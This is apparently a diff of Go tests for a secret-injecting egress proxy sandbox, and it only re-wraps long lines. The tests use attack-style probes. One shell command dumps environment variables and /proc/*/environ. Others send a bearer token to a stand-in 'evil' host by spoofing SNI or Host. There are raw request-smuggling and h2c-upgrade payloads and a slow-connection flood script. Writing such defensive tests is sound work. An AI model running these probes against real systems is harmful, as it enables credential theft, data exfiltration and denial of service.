@@ -170,7 +170,9 @@ func TestTheToolNeverHasTheSecretAndTheHostDoes(t *testing.T) {
 	for _, version := range []string{"--http1.1", "--http2"} {
 		before := len(asked.list())
 		r := w.use(w.bound(bearer), "sh", "-c",
-			`curl -sS -m 20 `+version+` -d hello -H "Authorization: Bearer $TOKEN" https://`+api+`:8443/x; echo "$TOKEN"; env; cat /proc/*/environ /proc/*/cmdline | tr '\0' '\n'`)
+			`curl -sS -m 20 `+version+` -d hello -H "Authorization: Bearer $TOKEN" `+
+				`https://`+api+`:8443/x; echo "$TOKEN"; env; cat /proc/*/environ `+
+				`/proc/*/cmdline | tr '\0' '\n'`)
 		if !strings.Contains(r.stdout, "5 bytes") || !strings.Contains(r.stdout, "mcpbox_TOKEN_") {
 			t.Fatalf("%s%s", r.stdout, r.stderr)
 		}
@@ -217,7 +219,8 @@ func TestAnEchoIsMasked(t *testing.T) {
 		for path, want := range map[string]string{"/echo": "plain " + masked,
 			"/early": "</Bearer mcpbox_TOKEN_", "/gzip": "packed " + masked} {
 			r := w.use(w.bound(bearer), "sh", "-c",
-				`curl -sS -m 20 -i --raw `+version+` -H "Authorization: Bearer $TOKEN" https://`+api+`:8443`+path)
+				`curl -sS -m 20 -i --raw `+version+` -H "Authorization: Bearer $TOKEN" `+
+					`https://`+api+`:8443`+path)
 			if !strings.Contains(r.stdout, want) {
 				t.Errorf("%s %s: %s%s", version, path, r.stdout, r.stderr)
 			}
@@ -248,7 +251,8 @@ func TestARedirectWithTheSecretWorks(t *testing.T) {
 	r := w.use(w.bound("query: key"), "sh", "-c",
 		`curl -sS -m 20 -L "https://`+api+`:8443/same?key=$TOKEN"`)
 	got := strings.Join(asked.list(), "\n")
-	if !strings.Contains(got, "/there?key=ghp_Tr0ub4dor%26") || !strings.Contains(r.stdout, "welcome") {
+	if !strings.Contains(got, "/there?key=ghp_Tr0ub4dor%26") ||
+		!strings.Contains(r.stdout, "welcome") {
 		t.Errorf("%s%s\n%s", r.stdout, r.stderr, got)
 	}
 }
@@ -262,8 +266,9 @@ func TestThePlaceholderIsWorthNothingElsewhere(t *testing.T) {
 			"egress:secret"},
 		"the URL": {`curl -sS -m 20 "https://` + api + `:8443/?key=$TOKEN"`,
 			"egress:secret"},
-		"the body":   {`curl -sS -m 20 -d "$TOKEN" https://` + api + `:8443/`, ""},
-		"a redirect": {`curl -sS -m 20 -L --location-trusted -H "Authorization: Bearer $TOKEN" https://` + api + `:8443/away`, ""},
+		"the body": {`curl -sS -m 20 -d "$TOKEN" https://` + api + `:8443/`, ""},
+		"a redirect": {`curl -sS -m 20 -L --location-trusted -H "Authorization: Bearer $TOKEN" ` +
+			`https://` + api + `:8443/away`, ""},
 		"another name's SNI": {`curl -sS -m 20 --connect-to ` + evil + `:8443:` + api +
 			`:8443 -H "Authorization: Bearer $TOKEN" https://` + evil + `:8443/`, "egress:sni"},
 		"Host is not SNI": {`curl -sS -m 20 -H "Host: ` + evil +
@@ -276,7 +281,8 @@ func TestThePlaceholderIsWorthNothingElsewhere(t *testing.T) {
 		// Inside, the world's authority is trusted too: for hosts whose requests are not read.
 		before := len(asked.list())
 		r := w.use(append(w.bound(bearer), "--mount", w.dir+":/data"), "sh", "-c",
-			`cat /data/ca.pem /.ca-certificates.crt > /tmp/ca.pem; export CURL_CA_BUNDLE=/tmp/ca.pem; `+c.command)
+			`cat /data/ca.pem /.ca-certificates.crt > /tmp/ca.pem; export `+
+				`CURL_CA_BUNDLE=/tmp/ca.pem; `+c.command)
 		got := asked.list()[before:]
 		for _, line := range got {
 			if strings.Contains(line, "Tr0ub4dor") && what != "a redirect" || strings.Contains(line,
@@ -297,8 +303,11 @@ func TestThePlaceholderIsWorthNothingElsewhere(t *testing.T) {
 const raw = `
 import os, socket, ssl, sys
 c = ssl.create_default_context(cafile="/.ca-certificates.crt")
-s = c.wrap_socket(socket.create_connection(("` + api + `", 8443), 20), server_hostname="` + api + `"); s.settimeout(5)
-ask = [part.replace("TOKEN", os.environ["TOKEN"]).encode().decode("unicode_escape").encode("latin1") for part in sys.argv[1:]]
+s = c.wrap_socket(socket.create_connection(("` + api + `", 8443), 20), ` +
+	`server_hostname="` + api + `"); s.settimeout(5)
+ask = [part.replace("TOKEN", ` +
+	`os.environ["TOKEN"]).encode().decode("unicode_escape").encode("latin1") for part in ` +
+	`sys.argv[1:]]
 s.sendall(ask[0])
 out = b""
 try:
@@ -344,7 +353,8 @@ func TestRequestsAreNotSmuggled(t *testing.T) {
 			evil + `:8443\r\nAuthorization: Bearer TOKEN\r\n\r\n` + hidden,
 		"CONNECT to the host": `CONNECT ` + api + `:8443 HTTP/1.1\r\n` + host + `\r\n` + hidden,
 		"HTTP/2 in the clear": `GET / HTTP/1.1\r\n` + host +
-			`Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n` + hidden,
+			`Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: ` +
+			`AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n` + hidden,
 	} {
 		before := len(asked.list())
 		r := w.use(w.bound(bearer), "python3", "-c", raw, ask)
@@ -362,7 +372,8 @@ func TestRequestsAreNotSmuggled(t *testing.T) {
 func TestAWebSocketPassesMasked(t *testing.T) {
 	w, _ := secretive(t)
 	ask := `GET /ws HTTP/1.1\r\nHost: ` + api +
-		`:8443\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Extensions: permessage-deflate\r\nAuthorization: Bearer TOKEN\r\n\r\n`
+		`:8443\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Extensions: ` +
+		`permessage-deflate\r\nAuthorization: Bearer TOKEN\r\n\r\n`
 	r := w.use(w.bound(bearer), "python3", "-c", raw, ask, `hello there\n`)
 	if !strings.Contains(r.stdout, "101 Switching") || !strings.Contains(r.stdout,
 		"Bearer "+strings.Repeat("*", len(token))+"echo hello there") ||
@@ -387,7 +398,8 @@ func TestEventsOfAServerComeAtOnce(t *testing.T) {
 
 func TestMethodsAreHeldTo(t *testing.T) {
 	w, asked := secretive(t)
-	flags := w.policy(`network: {mode: allow, allow: [{host: ` + api + `, ports: [8443, 80], methods: [GET, HEAD]}]}
+	flags := w.policy(`network: {mode: allow, allow: [{host: ` + api + `, ports: [8443, 80], ` +
+		`methods: [GET, HEAD]}]}
 `)
 	for _, c := range []struct{ command, want, rule string }{
 		{`curl -sS -m 20 https://` + api + `:8443/`, "welcome", ""},
@@ -418,8 +430,8 @@ func TestMethodsAreHeldTo(t *testing.T) {
 func TestTheRealHostIsVerified(t *testing.T) {
 	w, asked := secretive(t)
 	w.env = []string{"TOKEN_OUTSIDE=" + token} // the world's authority is not trusted
-	r := w.run(0, nil, append(w.bound(bearer), "--secret", "TOKEN=env:TOKEN_OUTSIDE", "--", "sh", "-c",
-		`curl -sS -m 20 -i -H "Authorization: Bearer $TOKEN" https://`+api+`:8443/`)...)
+	r := w.run(0, nil, append(w.bound(bearer), "--secret", "TOKEN=env:TOKEN_OUTSIDE", "--", "sh",
+		"-c", `curl -sS -m 20 -i -H "Authorization: Bearer $TOKEN" https://`+api+`:8443/`)...)
 	if !strings.Contains(r.stdout, "502") || len(asked.list()) > 0 ||
 		r.event("egress:unreachable") == nil {
 		t.Errorf("%s%s: %s", r.stdout, r.stderr, asked.list())
@@ -484,7 +496,8 @@ for i in range(200):
     else:
         s = c.wrap_socket(s, server_hostname="`+api+`"); s.send(b"GET / HTTP/1.1\r\nHo")
     slow.append(s)
-print(subprocess.run(["curl", "-sS", "-m", "10", "-H", "Authorization: Bearer " + os.environ["TOKEN"], "https://`+api+`:8443/"], capture_output=True).stdout)
+print(subprocess.run(["curl", "-sS", "-m", "10", "-H", "Authorization: Bearer " + `+
+		`os.environ["TOKEN"], "https://`+api+`:8443/"], capture_output=True).stdout)
 for s in slow[:4]:
     s.settimeout(40)
     try: print("closed" if len(s.recv(1000)) < 1000 else "open")
